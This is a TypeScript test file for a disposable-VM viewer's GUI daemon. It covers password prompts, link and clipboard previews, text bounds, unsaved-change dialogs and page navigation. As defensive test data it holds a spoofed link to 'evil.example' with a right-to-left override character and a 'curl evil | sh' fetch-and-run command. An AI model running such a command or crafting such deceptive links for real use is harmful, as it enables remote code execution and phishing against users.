// What a window asks its user and shows of a document's words: passwords, links, copied texts, a page to read, lost
// changes.
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import {
  missingForWindows,
  openMessage,
  paintedMessages,
  sampleEditor,
  sampleViewer,
  startGuiDaemon,
  type GuiDaemon,
} from '../support/gui-daemon.ts';
import { pictureColour, pictureTop } from '../support/picture-place.ts';
import { readScreen } from '../support/read-text.ts';
import { startRfbServer, type RfbServer } from '../support/rfb-server.ts';
import { waitUntil } from '../support/wait-until.ts';

/** Long enough for a wrong message to have come. */
const quietMs = 300;

describe('the words of a window', { skip: missingForWindows() ?? false }, () => {
  let gui: GuiDaemon;
  let folder: string;
  let count = 0;
  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'glovebox-words-'));
    gui = await startGuiDaemon();
  });
  after(async () => {
    await gui.stop();
    await rm(folder, { recursive: true, force: true });
  });

  /** How far to the right the picture reaches, in its middle. */
  const pictureRight = (): number => {
    const { height, width } = gui.screen.framebuffer;
    return gui.screen.framebuffer
      .sample({ x: 0, y: Math.floor(height / 2), width, height: 1 }, width, 1)
      .lastIndexOf(pictureColour);
  };
  interface Opened {
    readonly dispvmId: string;
    readonly server: RfbServer;
    readonly top: number;
  }
  const withWindow = async (use: (opened: Opened) => Promise<void>): Promise<void> => {
    const dispvmId = `disp${++count}`;
    const server = await startRfbServer(join(folder, dispvmId));
    try {
      gui.send(openMessage(dispvmId, { viewOnly: false }));
      gui.send({ type: 'attach', dispvmId, vncSocket: server.path });
      await gui.waitFor('attached', dispvmId);
      server.fill(pictureColour);
      paintedMessages(dispvmId, true).forEach((message) => gui.send(message));
      await gui.waitFor('visible', dispvmId);
      await gui.runX('xdotool', 'windowactivate', '--sync', await gui.windowOf(dispvmId));
      await use({
        dispvmId,
        server,
        top: await waitUntil(() => pictureTop(gui.screen.framebuffer), 'the picture is on the screen'),
      });
    } finally {
      gui.send({ type: 'close', dispvmId });
      await server.stop();
    }
  };
  const barAbove = (top: number): Promise<unknown> =>
    waitUntil(() => (pictureTop(gui.screen.framebuffer) ?? 0) > top, 'a bar stands above the picture');
  const noBarAbove = (top: number): Promise<unknown> =>
    waitUntil(() => pictureTop(gui.screen.framebuffer) === top, 'no bar stands above the picture');
  const key = (...keys: readonly string[]): Promise<string> => gui.runX('xdotool', 'key', '--delay', '80', ...keys);
  const typedQnums = (server: RfbServer): number[] => server.keys.filter(({ down }) => down).map(({ qnum }) => qnum);
  const said = (dispvmId: string): string[] =>
    gui.messages.flatMap((message) => ('dispvmId' in message && message.dispvmId === dispvmId ? [message.type] : []));

  test('ask for a password, which is typed into the viewer, and again where it was wrong', () =>
    withWindow(async ({ dispvmId, server, top }) => {
      gui.send({ type: 'password', dispvmId, isWrong: false });
      await barAbove(top);
      // No word of any warning has these letters in a row.
      await key('x', 'q', 'Return');
      await waitUntil(() => typedQnums(server).length >= 3, 'it is typed');
      assert.deepEqual(typedQnums(server), [0x2d, 0x10, 0x1c]);
      await noBarAbove(top);
      gui.send({ type: 'password', dispvmId, isWrong: true });
      await barAbove(top);
      await key('c', 'Return');
      await waitUntil(() => typedQnums(server).length >= 5, 'only the new one is typed');
      assert.deepEqual(typedQnums(server).slice(3), [0x2e, 0x1c]);
      assert.doesNotMatch(gui.complaints(), /xq|CRITICAL/);
    }));

  test('show a link’s address and open nothing; the clipboard gets it by the button alone', () =>
    withWindow(async ({ dispvmId, top }) => {
      gui.send({ type: 'link', dispvmId, untrustedText: 'https://bank.example@evil.example/\u202eform' });
      await barAbove(top);
      assert.doesNotMatch(await gui.clipboardText(), /evil/);
      await key('F10', 'Return');
      await delay(quietMs);
      assert.equal((await gui.clipboardText()).split('\n')[0], 'https://bank.example@evil.example/[U+202E]form');
      await key('Escape');
      await noBarAbove(top);
    }));

  test('show a copied text before it is put on the clipboard, one at a time', () =>
    withWindow(async ({ dispvmId, top }) => {
      const right = pictureRight();
      gui.send({ type: 'copied', dispvmId, untrustedText: 'curl evil\u0007 | sh' });
      await barAbove(top);
      gui.send({ type: 'reading', dispvmId, untrustedText: 'A page.' });
      await waitUntil(() => pictureRight() < right - 200, 'the text stands beside the picture');
      gui.send({ type: 'copied', dispvmId, untrustedText: 'second' });
      await waitUntil(() => pictureRight() > right - 200, 'it gives way to the bar');
      await key('F10', 'Return');
      await delay(quietMs);
      assert.equal((await gui.clipboardText()).split('\n')[0], 'second');
    }));

  test('are bounded, and a text of 64 KiB is shown', () =>
    withWindow(async ({ dispvmId, top }) => {
      gui.send({ type: 'copied', dispvmId, untrustedText: 'x'.repeat(65_536) });
      await barAbove(top);
      assert.ok((pictureTop(gui.screen.framebuffer) ?? 0) < top + 400, 'the picture keeps its place');
      assert.equal(gui.exitCode(), null);
    }));

  test('ask before changes that were not saved are lost, and not once they are', () =>
    withWindow(async ({ dispvmId, server, top }) => {
      gui.send({ type: 'editing', dispvmId, viewer: sampleEditor });
      await delay(quietMs);
      await key('a');
      await waitUntil(() => typedQnums(server).length > 0, 'a key');
      await key('ctrl+shift+w');
      await barAbove(top);
      assert.ok(!said(dispvmId).includes('closed'));
      // “Keep open” has the keyboard.
      await key('Return');
      await noBarAbove(top);
      await key('ctrl+s');
      await key('ctrl+shift+w');
      await barAbove(top);
      assert.ok(!said(dispvmId).includes('closed'), 'the key alone saves nothing');
      await key('Return');
      await noBarAbove(top);
      gui.send({ type: 'saving', dispvmId });
      gui.send({ type: 'saved', dispvmId, differs: false });
      await delay(quietMs);
      await key('ctrl+shift+w');
      await gui.waitFor('closed', dispvmId);
    }));

  test('lead to the DispVM’s end by “Close” all the same', () =>
    withWindow(async ({ dispvmId, top }) => {
      gui.send({ type: 'editing', dispvmId, viewer: sampleEditor });
      await delay(quietMs);
      await key('a');
      await key('ctrl+shift+w');
      await barAbove(top);
      await key('shift+Tab', 'Return');
      await gui.waitFor('closed', dispvmId);
    }));

  const closed = async (dispvmId: string): Promise<boolean> => {
    const message = await gui.waitFor('closed', dispvmId);
    return message.type === 'closed' && message.isDiscarding;
  };
  const edited = (dispvmId: string): void => {
    gui.send({ type: 'editing', dispvmId, viewer: sampleEditor });
    gui.send({ type: 'saving', dispvmId });
    gui.send({ type: 'saved', dispvmId, differs: true });
  };

  test('ask what becomes of a changed copy: Enter returns it', () =>
    withWindow(async ({ dispvmId, top }) => {
      edited(dispvmId);
      await delay(quietMs);
      await key('ctrl+shift+w');
      await barAbove(top);
      const words = await readScreen(gui.screen.display);
      for (const part of ['Return the changed copy?', 'Return it', 'Discard it', 'Keep open'])
        assert.ok(words.includes(part), `${part} in: ${words}`);
      assert.ok(!said(dispvmId).includes('closed'));
      await key('Return');
      assert.equal(await closed(dispvmId), false);
    }));

  test('ask what becomes of a changed copy: it stays open, and is discarded, by keys', () =>
    withWindow(async ({ dispvmId, top }) => {
      edited(dispvmId);
      await delay(quietMs);
      await key('ctrl+shift+w');
      await barAbove(top);
      await key('Tab', 'Return');
      await noBarAbove(top);
      assert.ok(!said(dispvmId).includes('closed'));
      await key('ctrl+shift+w');
      await barAbove(top);
      await key('shift+Tab', 'Return');
      assert.equal(await closed(dispvmId), true);
    }));

  test('ask nothing about a document that was saved as it was', () =>
    withWindow(async ({ dispvmId }) => {
      edited(dispvmId);
      gui.send({ type: 'saved', dispvmId, differs: false });
      await delay(quietMs);
      await key('ctrl+shift+w');
      assert.equal(await closed(dispvmId), false);
    }));

  test('say page and depth, and Back has no use at the document itself', () =>
    withWindow(async ({ dispvmId, server }) => {
      gui.send({ type: 'inside', dispvmId, depth: 0 });
      gui.send({ type: 'page', dispvmId, page: 1, pages: 12 });
      await delay(quietMs);
      await key('F10', 'space');
      await waitUntil(() => typedQnums(server).length >= 2, 'the first button of use');
      assert.deepEqual(typedQnums(server), [0x1d, 0xd1], 'neither back nor to the page before the first');
      gui.send({ type: 'inside', dispvmId, depth: 1 });
      await delay(quietMs);
      await key('Escape', 'F10', 'space');
      await waitUntil(() => typedQnums(server).length >= 4, 'back');
      assert.deepEqual(typedQnums(server).slice(2), [0x38, 0xcb]);
    }));

  test('offer to cancel what takes too long', async () => {
    gui.send(openMessage('disp90'));
    await gui.waitFor('shown', 'disp90');
    gui.send({ type: 'delivered', dispvmId: 'disp90', viewer: sampleViewer, mayEdit: false });
    await gui.runX('xdotool', 'windowactivate', '--sync', await gui.windowOf('disp90'));
    await key('F10', 'Tab', 'Return');
    await gui.waitFor('closed', 'disp90');
  });
});
